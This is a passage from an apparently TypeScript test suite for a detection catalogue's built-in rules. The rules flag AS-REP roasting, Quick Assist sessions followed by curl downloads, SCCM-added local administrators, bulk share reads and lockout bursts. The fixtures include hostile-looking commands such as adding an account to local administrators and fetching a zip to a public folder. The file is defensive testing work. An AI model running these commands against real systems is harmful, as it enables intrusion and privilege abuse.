  ['vCenter Or ESXi Reached Or Listed From PowerCLI (script block 4104)', 'low', 'discovery',
    script("Connect-VIServer -Server vcsa01.corp.example -User administrator@vsphere.local -Password 'x'"),
    script('Get-VM -Name web01 | Start-VM')],
  ["Program Started From A Configuration Management Agent's Cache (Puppet, Chef, Salt)", 'medium', 'execution',
    proc('C:\\ProgramData\\PuppetLabs\\puppet\\cache\\lib\\pmon.exe', 'pmon.exe --daemon', 'C:\\Program Files\\Puppet Labs\\Puppet\\puppet\\bin\\ruby.exe'),
    proc('C:\\Program Files\\Puppet Labs\\Puppet\\puppet\\bin\\ruby.exe', 'ruby.exe puppet agent -t', 'C:\\Windows\\System32\\services.exe')],
  ['Configuration Manager Task Sequence Step Adds A Local Administrator Or Account', 'medium', 'execution',
    proc(CMD, 'cmd.exe /c net localgroup administrators CORP\\svc-print /add', 'C:\\Windows\\CCM\\smsswd.exe'),
    proc(CMD, 'cmd.exe /c net localgroup administrators CORP\\svc-print /add', 'C:\\Windows\\explorer.exe')],
  ['Shell Started By A Remote Support Tool', 'low', 'execution',
    proc(CMD, 'cmd.exe', 'C:\\Program Files (x86)\\NetSupport\\NetSupport Manager\\remcmdstub.exe'),
    proc(CMD, 'cmd.exe', 'C:\\Program Files (x86)\\NetSupport\\NetSupport Manager\\pcicfgui.exe')],
  ['Remote Access Software Started', 'low', 'command-and-control',
    proc('C:\\Users\\maria\\AppData\\Local\\Temp\\SyncroInstaller\\SyncroInstaller.exe', '"SyncroInstaller.exe" --console --customerid 1629087', 'C:\\Users\\maria\\Downloads\\SyncroSetup.exe'),
    proc('C:\\Users\\maria\\AppData\\Local\\Temp\\setup\\installer.exe', '"installer.exe" --console', 'C:\\Users\\maria\\Downloads\\setup.exe')],
  ['Quick Assist Session Given Full Control', 'low', 'command-and-control',
    quickAssist('{"action":"setsharingmode","mode":"FullControl"}'), quickAssist('{"action":"setsharingmode","mode":"ViewOnly"}')],
  ["Configuration Manager Client Push Authenticates With The Site Server's Own Account", 'medium', 'credential-access',
    sec(4648, { ...subj, SubjectUserName: 'SCCM01$', TargetUserName: 'SCCM01$', TargetDomainName: 'CORP', TargetServerName: '10.20.44.77', ProcessId: '0xd34', ProcessName: SMSEXEC }),
    sec(4648, { ...subj, SubjectUserName: 'SCCM01$', TargetUserName: 'svc-sccmpush', TargetDomainName: 'CORP', TargetServerName: 'ws-0877.corp.example', ProcessId: '0xd34', ProcessName: SMSEXEC })],
];

describeCatalogue('built-in rules from a detection catalogue of access, movement, discovery, collection and impact', cases);

describe('built-in rules from a detection catalogue of access and movement: correlations', () => {
  it('a logon with the backup right but not the debug right opening the remote registry pipe is reported; an administrator\'s is not, nor either event alone', () => {
    const BACKUP = 'Remote Registry Opened By A Logon With Backup But Not Administrator Rights';
    const session = { SubjectUserSid: 'S-1-5-21-1-2-3-1180', SubjectUserName: 'svc_backup', SubjectDomainName: 'CORP', SubjectLogonId: '0x5a5a5' };
    const privileges = (list: string): Ev => sec(4672, { ...session, PrivilegeList: list });
    const winreg = (): Ev => sec(5145, { ...session, ObjectType: 'File', IpAddress: '10.0.0.66', IpPort: '50200', ShareName: '\\\\*\\IPC$', ShareLocalPath: '', RelativeTargetName: 'winreg', AccessMask: '0x3', AccessList: '%%4416 %%4417' });
    const titles = (events: Ev[]): string[] => [...builtinHits(events).keys()];
    const backupLogon = privileges('SeBackupPrivilege\r\n\t\t\tSeRestorePrivilege');
    const h = builtinHits([backupLogon, winreg()]).get(BACKUP);
    expect(h?.level).toBe('high');
    expect(h?.tactics).toContain('credential-access');
    expect(titles([privileges('SeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeDebugPrivilege'), winreg()])).not.toContain(BACKUP);
    expect(titles([backupLogon])).not.toContain(BACKUP);
    expect(titles([winreg()])).not.toContain(BACKUP);
  });

  it('TGTs without pre-authentication for two accounts to one address are AS-REP roasting; one account, or two from their own hosts, are not', () => {
    const ROAST = 'TGTs Without Pre-Authentication For Several Accounts From One Source (AS-REP Roasting)';
    const tgt = (user: string, ip: string): Ev =>
      sec(4768, { TargetUserName: user, TargetDomainName: 'CORP', TargetSid: 'S-1-5-21-1-2-3-1190', ServiceName: 'krbtgt', ServiceSid: 'S-1-5-21-1-2-3-502', TicketOptions: '0x40800010', Status: '0x0', TicketEncryptionType: '0x17', PreAuthType: '0', IpAddress: ip, IpPort: '50311' });
    const titles = (events: Ev[]): string[] => [...builtinHits(events).keys()];
    const h = builtinHits([tgt('joão.ribeiro', '::ffff:10.40.2.199'), tgt('svc_impressão', '::ffff:10.40.2.199')]).get(ROAST);
    expect(h?.level).toBe('high');
    expect(h?.tactics).toContain('credential-access');
    expect(titles([tgt('joão.ribeiro', '::ffff:10.40.2.199')])).not.toContain(ROAST);
    expect(titles([tgt('joão.ribeiro', '::ffff:10.40.2.11'), tgt('svc_impressão', '::ffff:10.40.2.12')])).not.toContain(ROAST);
  });

  it('Quick Assist then a command-line download on the same host within thirty minutes is initial access; either alone, or the download first, is not', () => {
    const SESSION = 'Files Fetched From The Web By A Command-Line Tool During A Quick Assist Session';
    const QA = 'C:\\Program Files\\WindowsApps\\MicrosoftCorporationII.QuickAssist_2.0.35.0_x64__8wekyb3d8bbwe\\Microsoft.RemoteAssistance.QuickAssist\\QuickAssist.exe';
    const assist = (): Ev => proc(QA, `"${QA}"`, `${S32}svchost.exe`);
    const curl = (): Ev => proc(`${S32}curl.exe`, 'curl  -o C:\\Users\\Public\\s.zip https://files-drive.example/upd/s.zip');
    const titles = (events: Ev[]): string[] => [...builtinHits(events).keys()];
    const h = builtinHits([assist(), curl()]).get(SESSION);
    expect(h?.level).toBe('high');
    expect(h?.tactics).toContain('initial-access');
    expect(titles([assist()])).not.toContain(SESSION);
    expect(titles([curl()])).not.toContain(SESSION);
    expect(titles([curl(), assist()])).not.toContain(SESSION);
    expect(titles([assist(), proc(`${S32}curl.exe`, 'curl -I https://files-drive.example/')])).not.toContain(SESSION);
  });

  it('twenty different files read over a share by one logon within two minutes are collection; nineteen, pipes, or twenty logons reading one file each, are not', () => {
    const BULK = 'Many Files Read Over A Share By One Logon Within Two Minutes';
    const read = (n: number, logon = '0x4b77e01', share = '\\\\*\\HR'): Ev =>
      sec(5145, { ...subj, SubjectLogonId: logon, ObjectType: 'File', IpAddress: '10.20.15.88', IpPort: '50200', ShareName: share, ShareLocalPath: '\\??\\D:\\Shares\\HR', RelativeTargetName: `Personnel\\Files\\E${n}_Staff.pdf`, AccessMask: '0x120089', AccessList: '%%1538 %%1541 %%4416 %%4419 %%4423' });
    const titles = (events: Ev[]): string[] => [...builtinHits(events).keys()];
    const range = (k: number): number[] => Array.from({ length: k }, (_, i) => i);
    const h = builtinHits(range(20).map((i) => read(i))).get(BULK);
    expect(h?.level).toBe('low');
    expect(h?.tactics).toContain('collection');
    expect(titles(range(19).map((i) => read(i)))).not.toContain(BULK);
    expect(titles(range(20).map((i) => read(i, '0x4b77e01', '\\\\*\\IPC$')))).not.toContain(BULK);
    expect(titles(range(20).map((i) => read(1, `0x${(0x4b77e01 + i).toString(16)}`)))).not.toContain(BULK);
  });

  it('three different accounts locked out on one controller within minutes are reported as impact; two accounts, or one account three times, are not', () => {
    const LOCKOUTS = 'Several Accounts Locked Out On One Domain Controller Within Minutes';
    const locked = (user: string): Ev =>
      sec(4740, { TargetUserName: user, TargetDomainName: 'LT-0872', TargetSid: 'S-1-5-21-1-2-3-1191', SubjectUserSid: 'S-1-5-18', SubjectUserName: 'DC-01$', SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7' });
    const titles = (events: Ev[]): string[] => [...builtinHits(events).keys()];
    const h = builtinHits([locked('Administrator'), locked('adm.tsato'), locked('adm.wright')]).get(LOCKOUTS);
    expect(h?.level).toBe('medium');
    expect(h?.tactics).toContain('impact');
    expect(titles([locked('Administrator'), locked('adm.tsato')])).not.toContain(LOCKOUTS);
    expect(titles([locked('adm.tsato'), locked('adm.tsato'), locked('adm.tsato')])).not.toContain(LOCKOUTS);
  });
});
